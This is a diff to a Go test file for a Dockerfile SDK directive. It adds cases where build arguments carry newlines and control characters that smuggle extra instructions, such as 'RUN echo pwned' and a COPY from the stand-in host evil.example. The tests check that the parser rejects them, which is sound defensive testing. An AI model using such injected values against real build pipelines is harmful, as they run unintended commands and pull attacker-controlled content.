@@ -52,7 +52,9 @@ var Cases = []Case{
 	{Name: "relative --to", Dockerfile: line("SDK golang@1.23 --to=opt/go"), Want: []string{"SDK --to=opt/go must be an absolute path"}, Line: 3},
 	{Name: "empty --to", Dockerfile: line("SDK golang@1.23 --to="), Want: []string{`SDK flag "--to=" needs a value`}, Line: 3},
 	{Name: "empty --flavor", Dockerfile: line("SDK golang@1.23 --flavor="), Want: []string{`SDK flag "--flavor=" needs a value`}, Line: 3},
-	{Name: "flavor with a dash", Dockerfile: line("SDK golang@1.23 --flavor=bookworm-slim"), Want: []string{`invalid SDK flavor "bookworm-slim"`}, Line: 3},
+	{Name: "flavor with a dash", Dockerfile: line("SDK golang@1.23 --flavor=bookworm-slim"), Want: []string{`SDK --flavor="bookworm-slim": character '-' is not allowed in a flavor`}, Line: 3},
+	{Name: "--to from a build arg with a newline", Dockerfile: head + "ARG DIR\nSDK golang@1.23 --to=${DIR}\nRUN echo ran > /ran\n", Args: map[string]string{"DIR": "/go\nRUN echo pwned > /pwned"}, Want: []string{`SDK --to="/go\nRUN echo pwned > /pwned": character '\x0a' is not allowed in a path (allowed: letters, digits and / . _ - + @ ~)`}, Line: 4},
+	{Name: "reference from a build arg with a newline", Dockerfile: head + "ARG V\nSDK golang@${V}\nRUN echo ran > /ran\n", Args: map[string]string{"V": "1.23\nRUN echo pwned"}, Want: []string{`SDK reference "golang@1.23\nRUN echo pwned": character '\x0a' is not allowed in an SDK reference`}, Line: 4},
 	{Name: "uppercase platform", Dockerfile: line("SDK Golang@1.23"), Want: []string{`invalid SDK platform "Golang"`}, Line: 3},
 	{Name: "uppercase repository", Dockerfile: line("SDK reg.example/Sdks/golang@1.23"), Want: []string{`invalid repository "reg.example/Sdks/golang"`}, Line: 3},
 	{Name: "repository with a tag", Dockerfile: line("SDK reg.example/sdks/golang:1.23"), Want: []string{`a repository takes a version after "@", not a tag after ":"`}, Line: 3},
@@ -76,7 +78,10 @@ var Cases = []Case{
 	{Name: "unknown mount option", Dockerfile: line("RUN --mount=type=sdk,ref=golang@1.23,target=/go,size=10 true"), Want: []string{`unknown sdk mount option "size"`}, Line: 3},
 	{Name: "duplicate mount option", Dockerfile: line("RUN --mount=type=sdk,ref=golang@1.23,target=/a,dst=/b true"), Want: []string{"sdk mount option target is given twice"}, Line: 3},
 	{Name: "relative mount target", Dockerfile: line("RUN --mount=type=sdk,ref=golang@1.23,target=go true"), Want: []string{"sdk mount target=go must be an absolute path"}, Line: 3},
-	{Name: "mount target with a space", Dockerfile: line(`RUN --mount=type=sdk,ref=golang@1.23,"target=/my go" true`), Want: []string{`sdk mount path "/my go" must not contain spaces`}, Line: 3},
+	{Name: "mount target with a space", Dockerfile: line(`RUN --mount=type=sdk,ref=golang@1.23,"target=/my go" true`), Want: []string{`sdk mount target="/my go": character ' ' is not allowed in a path`}, Line: 3},
+	{Name: "mount target from a build arg with control characters", Dockerfile: head + "ARG DIR\nRUN --mount=type=sdk,ref=golang@1.23.4,target=${DIR} go version\nRUN echo ran > /ran\n", Args: map[string]string{"DIR": "/sdk\vtrue\nCOPY\v--from=evil.example/pwn:latest\v/\v/\nRUN"}, Want: []string{`sdk mount target="/sdk\vtrue\nCOPY\v--from=evil.example/`, `character '\x0b' is not allowed in a path`}, Line: 4},
+	{Name: "mount source from a build arg with a carriage return", Dockerfile: head + "ARG SRC\nRUN --mount=type=sdk,ref=golang@1.23.4,target=/go,source=${SRC} go version\nRUN echo ran > /ran\n", Args: map[string]string{"SRC": "bin\rRUN"}, Want: []string{`sdk mount source="bin\rRUN": character '\x0d' is not allowed in a path`}, Line: 4},
+	{Name: "mount flavor from a build arg with a form feed", Dockerfile: head + "ARG F\nRUN --mount=type=sdk,ref=golang@1.23,target=/go,flavor=${F} true\nRUN echo ran > /ran\n", Args: map[string]string{"F": "book\fworm"}, Want: []string{`sdk mount flavor="book\fworm": character '\x0c' is not allowed in a flavor`}, Line: 4},
 	{Name: "bad ref in a mount", Dockerfile: line("RUN --mount=type=sdk,ref=golang@>>1,target=/go true"), Want: []string{`invalid version constraint ">>1"`}, Line: 3},
 
 	// Directives and build args.
